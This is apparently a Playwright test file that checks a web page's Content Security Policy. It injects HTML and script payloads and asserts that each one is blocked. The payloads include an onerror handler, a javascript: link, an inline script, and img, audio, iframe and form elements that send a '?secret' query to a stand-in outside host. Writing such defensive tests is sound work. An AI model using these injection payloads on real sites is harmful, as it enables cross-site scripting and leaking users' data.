import { expect, type Page, test } from '../fixtures/test'

test.use({ expectedErrors: [/Content Security Policy|Content-Security-Policy|Integrity-Policy|Failed to load/i] })

/** Each way to run a script or to send something out, and the directive that stops it. */
const injections: [how: string, html: string, directive: string][] = [
  ['a handler in an attribute', `<img src="/none.png" onerror="self.ran='handler'">`, 'script-src-attr'],
  ['a picture of another host', '<img src="https://elsewhere.example/seen.png?secret">', 'img-src'],
  ['a sound of another host', '<audio src="https://elsewhere.example/seen.mp3?secret"></audio>', 'media-src'],
  ['a style sheet of another host', '<link rel="stylesheet" href="https://elsewhere.example/x.css">', 'style-src-elem'],
  ['a frame of another host', '<iframe src="https://elsewhere.example/seen?secret"></iframe>', 'frame-src'],
  ['an address of script', `<a href="javascript:self.ran='address'">x</a>`, 'script-src-elem'],
  ['a form to another host', '<form action="https://elsewhere.example/seen"><button>x</button></form>', 'form-action'],
]

/** What was refused, what ran, and what went to another host. */
async function watch(page: Page) {
  const sent: string[] = []
  await page.route('https://elsewhere.example/**', (route) => {
    sent.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(globalThis, { refused })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
  })
  return async () => ({
    ...(await page.evaluate(() => {
      const { refused, ran = null } = globalThis as unknown as { refused: string[]; ran?: string }
      return { refused, ran }
    })),
    sent,
  })
}

test('injected HTML gets nowhere', async ({ page }) => {
  const seen = await watch(page)
  await page.goto('/index')
  await page.waitForFunction(() => '__PLAZA__' in globalThis)
  const refused: string[] = []
  for (const [how, html, directive] of injections) {
    await page.evaluate((text) => {
      const place = document.createElement('div')
      document.body.append(place)
      place.innerHTML = text
      place.querySelector<HTMLElement>('a, button')?.click()
    }, html)
    refused.push(directive)
    await expect.poll(seen, how).toEqual({ refused, ran: null, sent: [] })
  }
})

test('an injected script runs neither from its text nor from a file of ours without a hash', async ({ page }) => {
  const seen = await watch(page)
  await page.goto('/index')
  await page.waitForFunction(() => '__PLAZA__' in globalThis)
  const outcome = await page.evaluate(async () => {
    const inline = document.createElement('script')
    inline.text = "self.ran = 'text'"
    document.head.append(inline)
    const own = document.createElement('script')
    own.src = document.querySelector<HTMLScriptElement>('script[src][integrity]')?.src ?? ''
    own.crossOrigin = 'anonymous'
    const ended = new Promise((resolve) => {
      own.onload = () => resolve('loaded')
      own.onerror = () => resolve('refused')
    })
    document.head.append(own)
    return ended
  })
  expect(outcome).toBe('refused')
  await expect.poll(seen).toEqual({ refused: ['script-src-elem'], ran: null, sent: [] })
})
